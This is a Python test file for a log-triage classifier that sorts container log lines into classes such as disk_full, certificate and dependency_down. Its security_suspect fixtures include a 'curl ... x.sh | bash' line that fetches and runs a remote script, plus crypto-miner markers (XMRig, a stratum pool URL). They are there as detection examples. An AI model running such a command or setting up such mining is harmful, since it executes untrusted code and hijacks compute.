"""What a container's words are taken for, and what they are not."""

import re
from re import _constants as c  # type: ignore[attr-defined]
from re import _parser  # type: ignore[attr-defined]
from typing import Any

import pytest

from bridge.triage import phrase_table, phrases
from tests.unit.triage.builders import lines

SAID = [
    ("disk_full", "OSError: [Errno 28] No space left on device: '/var/lib/x'"),
    ("disk_full", "ERROR: could not extend file \"base/16384/16397\": No space left on device"),
    ("disk_full", "sqlite3.OperationalError: database or disk is full"),
    ("disk_full", "touch: /data/x: Read-only file system"),
    ("disk_full", "\x1b[31mENOSPC\x1b[0m: no \x1b[1mspace"),
    ("certificate", "x509: certificate has expired or is not yet valid"),
    ("certificate", "ssl.SSLCertVerificationError: [SSL: CERTIFICATE_VERIFY_FAILED] certificate verify failed"),
    ("certificate", "Error: self-signed certificate in certificate chain"),
    ("certificate", "PKIX path building failed: unable to find valid certification path"),
    ("config_error", "standard_init_linux.go:228: exec user process caused: exec format error"),
    ("config_error", "ModuleNotFoundError: No module named 'flask'"),
    ("config_error", "Failed to load config: /etc/app.yml"),
    ("config_error", "environment variable DATABASE_URL is not set"),
    ("config_error", 'nginx: [emerg] unknown directive "sever_name" in /etc/nginx/nginx.conf:3'),
    ("config_error", "listen tcp :8080: bind: address already in use"),
    ("config_error", 'FATAL:  password authentication failed for user "shop"'),
    ("dependency_down", "dial tcp 10.0.0.5:5432: connect: connection refused"),
    ("dependency_down", "Error: connect ECONNREFUSED 172.18.0.3:6379"),
    ("dependency_down", "psycopg2.OperationalError: connection refused"),
    ("dependency_down", "could not connect to redis://cache:6379: Connection refused"),
    ("dependency_down", "could not connect to db:5432 via proxy 127.0.0.1: Connection refused"),
    ("dependency_down", "getaddrinfo ENOTFOUND db"),
    ("dependency_down", "could not translate host name \"db\" to address"),
    ("rate_limit", "HTTP Request: POST https://api.example.com/v1 \"HTTP/1.1 429 Too Many Requests\""),
    ("rate_limit", "upstream said status code 429"),
    ("rate_limit", "botocore: ThrottlingException: Rate exceeded"),
    ("data_recovery", "LOG:  database system was not properly shut down; automatic recovery in progress"),
    ("data_recovery", "InnoDB: Starting crash recovery."),
    ("data_recovery", "LOADING Redis is loading the dataset in memory"),
    ("data_recovery", "INFO [alembic.runtime.migration] Running upgrade 1a -> 2b, add orders"),
    ("data_recovery", 'msg="Replaying WAL, this may take a while"'),
    ("security_suspect", "XMRig/6.21 gcc/13"),
    ("disk_full", "write: No space available on volume"),
    ("disk_full", "kernel: EXT4-fs error (device sda1): ext4_find_entry"),
    ("disk_full", "Fehler: Auf dem Gerät ist kein Speicherplatz mehr verfügbar"),
    ("certificate", "tls: failed to verify certificate: x509: certificate signed by unknown authority"),
    ("certificate", "the client cert for payments expired yesterday"),
    ("config_error", "open /data/state.db: permission denied"),
    ("config_error", "License key has expired, contact sales"),
    ("config_error", "Error: Cannot find module '/app/dist/server.js'"),
    ("config_error", "parse error in /etc/app/config.yaml line 3"),
    ("config_error", "curl: (22) The requested URL returned error: 404"),
    ("dependency_down", "could not connect to server at db.internal"),
    ("dependency_down", "dial tcp 10.0.0.5:5432: i/o timeout"),
    ("dependency_down", "wget: bad address 'db:5432'"),
    ("dependency_down", "FATAL: sorry, too many clients already"),
    ("dependency_down", '{"status":"fail","redis":"unreachable"}'),
    ("rate_limit", "we are being rate limited by the provider"),
    ("rate_limit", "daily limit reached for this key"),
    ("data_recovery", "Replaying journal: 4 of 9 segments"),
    ("data_recovery", "Running 12 pending migrations"),
    ("data_recovery", "Upgrading schema from 41 to 44, do not interrupt"),
    ("data_recovery", "starting full backup to s3"),
    ("data_damage", "sqlite3.DatabaseError: database disk image is malformed"),
    ("data_damage", "PANIC: could not locate a valid checkpoint record"),
    ("security_suspect", "sh -c curl -s http://203.0.113.9/x.sh | bash"),
    ("security_suspect", "use pool stratum+tcp://pool.example:3333"),
]  # fmt: skip

NOT_SAID = [
    "connection refused to nobody in particular: dial tcp 127.0.0.1:8080: connect: connection refused",
    "connect ECONNREFUSED ::1:3000",
    "dial tcp [::1]:8080: connect: connection refused",
    'connect() failed (111: Connection refused) while connecting to upstream, client: 10.0.0.9, upstream: "fastcgi://127.0.0.1:9000"',
    "connect() to unix:/run/php-fpm.sock failed (111: Connection refused)",
    '10.0.0.9 - - [20/Nov/2026] "GET /?q=no+space HTTP/1.1" 429 5 "-" "xmrig no space left on device"',
    '{"msg": "\\"GET / HTTP/2\\" 429 disk full"}',
    "http: TLS handshake error from 10.1.2.3:5555: remote error: tls: x509: certificate signed by unknown authority",
    "  Applying migration shop.0002_orders... OK",
    "No migrations to apply.",
    "server closed the connection unexpectedly",
    "Operation timed out after 5001 milliseconds",
    "Authentication failed for customer bob",
    "worker exited",
    "",
    "Running migrations:",
    "  No migrations to apply.",
    "migration complete: running 3 migrations took 2 s, recovery is complete",
    "certificate expires in 89 days",
    "rate limit: 100 requests a second configured",
    "accept4: too many open files",
    "HikariPool-1 - Connection is not available, request timed out after 30000ms.",
    "psycopg2.OperationalError: server closed the connection unexpectedly",
    "KeyError: 'currency'",
    "java.lang.OutOfMemoryError: unable to create native thread",
    "could not connect to server at localhost:5432",
    "user bob: permission denied for resource orders",
    "disk usage 81 %",
    "backup finished in 12 s",
    "upgrade your plan to see more",
]


@pytest.mark.parametrize(("kind", "text"), SAID, ids=[f"{kind}: {text[:40]!a}" for kind, text in SAID])
def test_said(kind: str, text: str) -> None:
    assert [sighting.kind for sighting in phrases.sightings(lines(text))] == [kind]


@pytest.mark.parametrize("text", NOT_SAID)
def test_not_said(text: str) -> None:
    assert phrases.sightings(lines(text)) == ()


@pytest.mark.parametrize(
    ("text", "counts"),
    [
        ("curl: (7) Failed to connect to localhost port 8080: Connection refused", False),
        ("wget: can't connect to remote host: Connection refused", False),
        ("curl: (7) Failed to connect to web port 80: Connection refused", False),
        ("GET http://web:80/health: dial tcp 172.18.0.2: connect: connection refused", False),
        ("connect to db:5432: Connection refused", True),
        ("dial tcp 10.0.0.5:3306: connect: connection refused", True),
        ('{"status":"DOWN","components":{"db":{"status":"DOWN"}}}', True),
    ],
)
def test_a_health_check_talks_to_its_own_container(text: str, counts: bool) -> None:
    seen = phrases.sightings(lines(text), own_names=["web"], of_health_check=True)
    assert [sighting.kind for sighting in seen] == ["dependency_down"] * counts


def test_sightings_keep_the_order_and_ids_of_the_lines() -> None:
    seen = phrases.sightings(lines("fine", "disk full", "fine", "disk full and no such host db"))
    assert [(sighting.line_id, sighting.kind) for sighting in seen] == [
        ("L2", "disk_full"),
        ("L4", "disk_full"),
        ("L4", "dependency_down"),
    ]


def test_a_long_line_is_read_at_both_ends() -> None:
    filler = "x" * 65536
    for text in (f"disk full {filler}", f"{filler} disk full"):
        assert phrases.sightings(lines(text))
    assert not phrases.sightings(lines(f"{filler} disk full {filler}"))
    assert len(phrases.readable(filler)) <= phrases.LINE_LIMIT + 1


@pytest.mark.parametrize(
    "text",
    [
        'no space left on device, while answering "GET / HTTP/1.1" 200',
        'no space left on device, while answering GET /x HTTP/1.1" 200',
        'could not write "x": no space left on device, request: "POST /?\\" HTTP/1.1\\" 200 HTTP/1.1"',
    ],
)
def test_a_client_cannot_take_back_what_the_program_said_before_it(text: str) -> None:
    assert phrases.sightings(lines(text))


@pytest.mark.parametrize(
    "request_line",
    ["GET /?no space left on device", 'GET /\\"?no space left on device', "FOO no space left on device"],
)
def test_what_a_client_sent_is_not_the_programs_own_word(request_line: str) -> None:
    assert not phrases.sightings(
        lines(f'10.0.0.9 - - "{request_line} HTTP/1.1" 200 5 "no space left on device"')
    )


@pytest.mark.parametrize("before", [0, 100, 490, 499, 500, 750, 4000])
def test_a_long_line_is_cut_to_the_part_that_tells(before: int) -> None:
    text = "x" * before + " no space left on device " + "y" * 3000
    part = phrases.telling_part(text, limit=500)
    assert part is not None
    assert "no space left on device" in part
    assert len(part) <= 500
    assert phrases.telling_part(f'"GET /{text} HTTP/1.1" 200', limit=500) is None
    assert phrases.telling_part("x" * 4000, limit=500) is None


def test_an_operator_adds_phrases_as_regular_expressions() -> None:
    """Case never matters; a new class is one more row of the table."""
    added = {"disk_full": ["quota +hit"], "parking": ["Parking .*expired"]}
    table = phrases.extended(phrases.CLASSES, added)
    seen = phrases.sightings(
        lines("the QUOTA  hit us", "parking has EXPIRED", "quota reached"), classes=table
    )
    assert [(sighting.line_id, sighting.kind) for sighting in seen] == [
        ("L1", "disk_full"),
        ("L2", "parking"),
    ]
    assert len(table) == len(phrases.CLASSES) + 1


def test_a_phrase_of_a_known_class_is_not_bound_to_its_exceptions_about_peers() -> None:
    """An operator's phrase counts wherever it is seen."""
    table = phrases.extended(phrases.CLASSES, {"dependency_down": ["ledger away"]})
    assert phrases.sightings(lines("localhost: ledger away"), classes=table)


PATTERNS = [
    *(pattern for entry in phrases.CLASSES for pattern in entry.patterns + entry.unless),
    phrases._ANSWERED,
    phrases._REQUEST,
    phrases._ANSI,
    phrases._HOST_AND_PORT,
    phrases._SELF,
]


@pytest.mark.parametrize("pattern", PATTERNS, ids=lambda pattern: pattern.pattern[:40])
def test_no_pattern_can_take_long(pattern: re.Pattern[str]) -> None:
    """By construction: no repeat without a bound, and what can be tried from one place is bounded, too."""
    assert tries(_parser.parse(pattern.pattern)) <= 25_000


@pytest.mark.parametrize("source", ["(a+)+b", "a*b", "(?:a{0,200}){0,200}", "(?:x|y*)z"])
def test_the_bound_would_notice(source: str) -> None:
    assert tries(_parser.parse(source)) > 25_000


@pytest.mark.parametrize(
    "pattern", [p for entry in phrases.CLASSES for p in entry.patterns], ids=lambda p: p.pattern[:40]
)
def test_patterns_are_written_in_lower_case(pattern: re.Pattern[str]) -> None:
    """They meet lower-cased text; an upper-case letter would never match."""
    assert not re.search(r"[A-Z]", pattern.pattern)


TABLE = [pattern for entry in phrases.CLASSES for pattern in entry.patterns]


@pytest.mark.parametrize("pattern", TABLE, ids=lambda pattern: pattern.pattern[:40])
def test_no_pattern_matches_without_its_needle(pattern: re.Pattern[str]) -> None:
    """The needle is a shortcut: a line that has none of it is not searched, so it must be in whatever matches."""
    needle = phrase_table.needle(pattern)
    assert not needle or any(needle in run for run in runs(_parser.parse(pattern.pattern)))


def test_nearly_every_pattern_has_a_needle() -> None:
    assert sum(len(phrase_table.needle(pattern)) >= 4 for pattern in TABLE) > 0.9 * len(TABLE)


@pytest.mark.parametrize(
    ("source", "needle"),
    [
        ("no space left", "no space left"),
        (r"colou?r of it", "r of it"),
        (r"(?:a|b) disk", " disk"),
        (r"one|two", ""),
        (r"x[a-z|]yes", "yes"),
        (r"a\.b\bcd", "a.b"),
        (r"ab{2,3}cde", "cde"),
        (r"Licen[cs]e .*Expired", "expired"),
        (r"(a(b)c)?defg", "defg"),
        (r"ab+cd", "ab"),
        (r"[]x]end", "end"),
    ],
)
def test_needles(source: str, needle: str) -> None:
    assert phrase_table.needle(re.compile(source)) == needle


def test_a_pattern_that_may_be_spaced_out_has_no_needle() -> None:
    assert phrase_table.needle(re.compile("(?x) a b c")) == ""


def runs(parsed: Any) -> list[str]:
    """The literal runs that every match holds, as the regular expression's own parser sees them."""
    found, run = [], ""
    for op, value in parsed:
        if op is c.LITERAL:
            run += chr(value)
            continue
        if op is c.MAX_REPEAT and value[0] >= 1:
            inner = runs(value[2])
            run += inner[0] if len(inner) == 1 and len(value[2]) == 1 else ""
        found.append(run)
        run = ""
    return [one for one in (*found, run) if one]


def tries(parsed: Any) -> float:
    """An upper bound of the ways in which a pattern can be tried from one place of the text."""
    ways = 1.0
    for op, value in parsed:
        if op in (c.MAX_REPEAT, c.MIN_REPEAT):
            low, high, inner = value
            most = float("inf") if high is c.MAXREPEAT else high
            inside = tries(inner)
            ways *= (most - low + 1) * (inside if inside == 1 else inside ** min(most, 50))
        elif op is c.SUBPATTERN:
            ways *= tries(value[-1])
        elif op is c.BRANCH:
            ways *= sum(tries(branch) for branch in value[1])
        elif op in (c.ASSERT, c.ASSERT_NOT):
            ways *= tries(value[1])
    return ways
